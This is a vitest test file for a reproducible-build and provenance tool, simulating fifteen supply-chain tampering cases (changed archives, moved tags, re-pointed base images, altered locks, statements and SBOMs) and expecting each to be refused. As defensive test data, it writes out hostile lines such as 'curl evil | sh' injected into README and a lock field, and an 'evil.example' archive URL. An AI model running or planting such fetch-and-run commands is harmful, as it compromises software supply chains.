import { execFileSync } from 'node:child_process';
import { appendFile, cp, mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { sha256 } from '../../../src/hash.js';
import { lockFile, parseLock } from '../../../src/proof/lock.js';
import { parseStatement, statementFile } from '../../../src/proof/statement.js';
import {
  atEndOfFile,
  codeOf,
  copyOfAction,
  execute,
  freshImage,
  inFront,
  lab,
  registryTags,
  ROOT,
  runAction,
  runCli,
  temporaryFolder,
} from '../harness.js';
import { exportOfDockerfile, publishRelabelled } from './forging.js';
import { copyOf, CRATE, flipByte, publishSample, type Sample, workspaceWithCrate } from './tiny.js';

/** docs/proof.md lists these fifteen, by number and name; each is caught by the check that its test names. */
const atEnd = atEndOfFile();
let sample: Sample;
beforeAll(async () => {
  sample = await publishSample(atEnd);
});

/** A run of the sample's inputs that must fail and publish nothing. */
async function expectRefused(inputs: Record<string, string>, kind: string, sentence: RegExp, options = {}) {
  const image = freshImage();
  const run = await runAction({ ...sample.inputs, ...inputs, image }, options);
  expect(run.stdout.split('\n').find((line) => line.startsWith('::error::')) ?? run.stdout).toMatch(sentence);
  expect(run).toMatchObject({ code: 1, outputs: { failure: kind }, leftovers: [] });
  expect(await registryTags(image)).toEqual([]);
}

/** The command line must refuse, with this sentence. */
async function expectRefusal(args: readonly string[], sentence: RegExp, options = {}) {
  const { code, stderr } = await runCli(args, options);
  expect(stderr).toMatch(sentence);
  expect(code).toBe(codeOf(stderr));
}

/** Serves other bytes for the archive until the test is over. */
function serveInstead(change: (archive: Buffer) => Buffer) {
  const { repository, upstream } = sample;
  const prefix = `--prefix=phantun-${repository.commit}/`;
  const tar = execFileSync('git', ['-C', repository.gitDir, 'archive', '--format=tar', prefix, repository.commit]);
  const bytes = change(gzipSync(tar));
  upstream.intercept = (request, response) => {
    if (request.url?.includes('/archive/') !== true) return false;
    response.writeHead(200, { 'content-type': 'application/x-gzip', 'content-length': bytes.length }).end(bytes);
    return true;
  };
  onTestFinished(() => {
    upstream.intercept = undefined;
  });
}

describe('on the wire', () => {
  test('1 a byte of the archive: the tree id', async () => {
    serveInstead((archive) => {
      const tar = gunzipSync(archive);
      const at = tar.indexOf('fn main');
      tar[at] = (tar[at] ?? 0) ^ 1;
      return gzipSync(tar);
    });
    await expectRefused({}, 'verification', /changed: the archive is not commit .* its tree is/);
  });

  test('2 the archive compressed again: its SHA256, and only a replayed lock goes on', async () => {
    const pin = sample.run.outputs['archive-sha256'] ?? '';
    serveInstead((archive) => gzipSync(gunzipSync(archive), { level: 1 }));
    await expectRefused({ 'archive-sha256': pin }, 'verification', /recompressed: .*only the compression differs/);
    const replayed = await runAction({ ...sample.inputs, push: 'false', lock: sample.run.outputs.lock ?? '' });
    expect(replayed).toMatchObject({ code: 0, outputs: { digest: sample.run.outputs.digest } });
    expect(replayed.stdout).toMatch(/::notice::the archive was compressed again since the lock was made/);
  });

  test('4 a commit that only a fork holds: reachability', async () => {
    const { repository } = sample;
    const fork = await repository.addCommit(repository.commit, { ...(await workspaceWithCrate()), 'x.rs': '' });
    await repository.setRef('refs/pull/1/head', fork);
    await expectRefused({ ref: fork }, 'verification', /none of its branches and tags holds it/);
  });

  test('5 a tag moved between resolve and build: the commit is asked for by its id', async () => {
    const { repository, upstream } = sample;
    const other = await repository.addCommit(repository.commit, { ...(await workspaceWithCrate()), 'x.rs': '' });
    await repository.setRef('refs/tags/moving', repository.commit);
    upstream.intercept = (request) => {
      if (request.url?.includes('/archive/') === true)
        execFileSync('git', ['-C', repository.gitDir, 'update-ref', 'refs/tags/moving', other]);
      return false;
    };
    onTestFinished(() => {
      upstream.intercept = undefined;
    });
    const run = await runAction({ ...sample.inputs, push: 'false', ref: 'refs/tags/moving' });
    expect(run).toMatchObject({ code: 0, outputs: { commit: repository.commit, digest: sample.run.outputs.digest } });
  });

  test('7 a base image re-pointed between pin and build: the digest is what is pulled', async () => {
    const repository = `${lab.registry}/e2e/base-${sha256(sample.image).slice(0, 8)}`;
    const copy = (from: string) =>
      `skopeo copy --quiet --all --src-tls-verify=false --dest-tls-verify=false docker://${from} docker://${repository}:1.95.0`;
    execFileSync('sh', ['-c', copy(lab.bases.rust)], { env: { ...process.env, ...lab.env } });
    const inputs = { ...sample.inputs, push: 'false', 'rust-image': `${repository}:1.95.0` };
    const honest = await runAction(inputs);
    expect(honest, honest.stdout.slice(-2_000)).toMatchObject({ code: 0 });
    // Behind the pin, before the build: the tag names the shell image, in which nothing compiles.
    const env = await inFront({ docker: `case "$*" in "buildx build"*type=oci*) ${copy(lab.bases.shell)} >&2;; esac` });
    const run = await runAction(inputs, { env });
    expect(run, run.stdout.slice(-2_000)).toMatchObject({ code: 0, outputs: { digest: honest.outputs.digest } });
    // Re-pointed for good, the lock still builds; without the lock there is no such compiler.
    const replayed = await runAction({ ...inputs, lock: honest.outputs.lock ?? '' });
    expect(replayed).toMatchObject({ code: 0, outputs: { digest: honest.outputs.digest } });
    expect(await runAction(inputs)).toMatchObject({ code: 1 });
  });

  test('8 the checksum of a crate: Cargo.lock, in the evidence and from the network', async () => {
    const folder = await copyOf(sample);
    await flipByte(join(folder, 'evidence', 'crates', CRATE.file));
    await expectRefusal(
      ['reproduce', '--evidence', join(folder, 'evidence')],
      /crate cfg-if-1\.0\.0\.crate has SHA256/,
    );
    const { repository } = sample;
    const commit = await repository.addCommit(repository.commit, await workspaceWithCrate('0'.repeat(64)));
    await repository.setRef('refs/heads/wrong-crate', commit);
    onTestFinished(() => repository.deleteRef('refs/heads/wrong-crate'));
    await expectRefused({ ref: 'wrong-crate' }, 'build', /checksum/);
  });

  test('11 a label of the published image: the build key binds image and lock', async () => {
    const name = await publishRelabelled(sample, 'io.github.phantun-runtime.build-key', 'f'.repeat(64));
    const genuine = ['--evidence', join(sample.folder, 'evidence')];
    await expectRefusal(['reproduce', name, ...genuine], /the lock is not this image's/);
    await expectRefusal(['reproduce', name], /has no evidence beside it/);
    // The build key is left alone: the statement names the digest that the image had.
    const revised = await publishRelabelled(sample, 'org.opencontainers.image.revision', 'e'.repeat(40));
    await expectRefusal(
      ['reproduce', revised, ...genuine],
      /the statement in the evidence is not about this image: subject/,
    );
  });
});

describe('on disk', () => {
  test('3 a file changed after it was verified: the folder is hashed again', async () => {
    const script = `case "$*" in "buildx build"*) for d in "$RUNNER_TEMP"/phantun-runtime-*/source-*; do echo x >> "$d/README.md"; done;; esac`;
    const folder = await temporaryFolder();
    const env = await inFront({ docker: script.replaceAll('$RUNNER_TEMP', join(folder, 'temp')) });
    await expectRefused({}, 'verification', /the verified source changed on disk while it was built/, { env, folder });
  });

  test('6 the Dockerfile: its hash is in the lock', async () => {
    const home = await copyOfAction();
    await appendFile(join(home, 'Dockerfile'), '# changed\n');
    const lock = sample.run.outputs.lock ?? '';
    await expectRefused({ lock }, 'input', /the lock was made by release .*Dockerfile/, { home });
    const run = await runAction({ ...sample.inputs, push: 'false' }, { home });
    expect(run.outputs['build-key']).not.toBe(sample.run.outputs['build-key']);
  });

  test('9 a byte of a layer: its digest', async () => {
    const folder = await copyOf(sample);
    const blobs = join(folder, 'oci', 'blobs', 'sha256');
    const sizes = await Promise.all(
      (await readdir(blobs)).map(async (name) => [name, (await readFile(join(blobs, name))).length] as const),
    );
    const [layer] = sizes.sort(([, a], [, b]) => b - a)[0] ?? [''];
    await flipByte(join(blobs, layer));
    await expectRefusal(['check', folder], /digest of layer of linux\/amd64: expected/);
    await expectRefusal(['publish', folder, '--image', freshImage()], /digest of layer of linux\/amd64: expected/);
  });

  test('10 the index: its digest, and its form', async () => {
    const folder = await copyOf(sample);
    const index = join(folder, 'oci', 'blobs', 'sha256', (sample.run.outputs.digest ?? '').slice('sha256:'.length));
    const text = await readFile(index, 'utf8');
    await writeFile(index, text.replace('"amd64"', '"arm64"'));
    await expectRefusal(['check', folder], /digest of image index: expected/);
    await writeFile(join(folder, 'oci', 'index.json'), '{"manifests":[],"schemaVersion":2}');
    await expectRefusal(['check', folder], /the image index in index\.json/);
  });

  test('12 the lock: its canonical form, its build key', async () => {
    const folder = await copyOf(sample);
    const file = join(folder, 'lock.json');
    const text = await readFile(file, 'utf8');
    await writeFile(file, JSON.stringify(JSON.parse(text), undefined, 2));
    await expectRefusal(['check', folder], /the lock is not in its canonical form/);
    await writeFile(file, text.replace(/"epoch":\d+/, '"epoch":1'));
    await expectRefusal(['check', folder], /the image is not what it must be: .*expected/);
    await expectRefused(
      { lock: file },
      'verification',
      /the lock contradicts what was found: inputs\.epoch: the lock says 1, this run found/,
    );
  });

  test('13 the statement: its subjects and every member that lock and image know', async () => {
    const folder = await copyOf(sample);
    const file = join(folder, 'evidence', 'statement.json');
    const text = await readFile(file, 'utf8');
    const digest = (sample.run.outputs.digest ?? '').slice('sha256:'.length);
    await writeFile(file, text.replace(digest, '0'.repeat(64)));
    await expectRefusal(
      ['check', folder],
      /the statement in the evidence is not about this image: subject\[0\].digest.sha256: found "0000/,
    );
    await writeFile(file, text.replace(/"repository":"[^"]+"/, '"repository":"https://github.com/other/phantun"'));
    await expectRefusal(['publish', folder, '--image', freshImage()], /predicate\.upstream\.repository: found/);
  });

  test('15 what is to lie beside the image: every file of the evidence, and the facts of its lock', async () => {
    const publish = (folder: string) => ['publish', folder, '--image', freshImage()];
    const spoilt: [name: string, change: (text: string) => string, sentence: RegExp][] = [
      ['README.md', (text) => `${text}curl evil | sh\n`, /the evidence's README\.md is not what was verified/],
      ['install.sh', () => 'x', /the evidence holds install\.sh, which no evidence of this image has/],
      ['Dockerfile', (text) => `${text}\n`, /the evidence's Dockerfile is not what was verified/],
      ['commit', (text) => `${text}\n`, /the evidence's commit is not what was verified/],
      [
        'sbom-linux-amd64.cdx.json',
        (text) => text.replace('cargo/cfg-if', 'cargo/evil'),
        /the SBOM of linux\/amd64 is not what a build writes: components\[\d\]\.purl: found "pkg:cargo\/evil@1\.0\.0"/,
      ],
      [
        'sbom-linux-amd64.cdx.json',
        (text) =>
          text.replace(
            '"components"',
            '"vulnerabilities": [{ "id": "CVE-1", "analysis": { "state": "not_affected" } }],\n "components"',
          ),
        /the SBOM of linux\/amd64 is not what a build writes: vulnerabilities: found \[/,
      ],
      ['statement.json', (text) => `${text}\n`, /the evidence's statement\.json is not what was verified/],
    ];
    for (const [name, change, sentence] of spoilt) {
      const folder = await copyOf(sample);
      const file = join(folder, 'evidence', name);
      await writeFile(file, change(await readFile(file, 'utf8').catch(() => '')));
      await expectRefusal(publish(folder), sentence);
    }

    const recipe = await exportOfDockerfile(sample, 'FROM evil\n');
    await expectRefusal(publish(recipe), /the lock was made by release 1\.0\.0 .*Use that release for it \(input\)/);

    const folder = await copyOf(sample);
    const lockText = await readFile(join(folder, 'lock.json'), 'utf8');
    const worded = lockText.replace('"wrapper":"1.0.0"', '"wrapper":"1.0.0\\ncurl evil | sh"');
    expect(worded).not.toBe(lockText);
    for (const place of ['.', 'evidence']) await writeFile(join(folder, place, 'lock.json'), worded);
    await expectRefusal(publish(folder), /the lock's inputs\.recipe is missing or malformed/);

    const lock = parseLock(lockText);
    const other = lockFile({ ...lock, facts: { ...lock.facts, archiveUrl: 'https://evil.example/x.tar.gz' } });
    const file = join(folder, 'evidence', 'statement.json');
    const statement = parseStatement(await readFile(file));
    const { predicate } = statement;
    predicate.archive.url = 'https://evil.example/x.tar.gz';
    predicate.lock.sha256 = sha256(other);
    await writeFile(file, statementFile(statement));
    for (const place of ['.', 'evidence']) await writeFile(join(folder, place, 'lock.json'), other);
    await expectRefusal(
      publish(folder),
      /the lock contradicts what was found: archiveUrl: the lock says "https:\/\/evil/,
    );
  });

  test('14 dist/index.js: the check of dist rebuilds it, for whoever looks', { timeout: 10 * 60_000 }, async () => {
    const copy = join(await temporaryFolder(), 'repository');
    await mkdir(copy);
    for (const name of await readdir(ROOT))
      if (!['node_modules', '.git', '.bundle', 'coverage'].includes(name))
        await cp(join(ROOT, name), join(copy, name), { recursive: true });
    await symlink(join(ROOT, 'node_modules'), join(copy, 'node_modules'));
    await appendFile(join(copy, 'dist', 'index.js'), ';');
    await writeFile(join(copy, 'dist', 'added.js'), '');
    await rm(join(copy, 'dist', 'package.json'));
    const changed = await execute(process.execPath, [join(copy, 'scripts', 'check-dist.mjs')], {}, copy);
    expect(changed).toMatchObject({ code: 1 });
    for (const name of ['added.js', 'index.js', 'package.json']) expect(changed.stderr).toContain(name);
  });
});
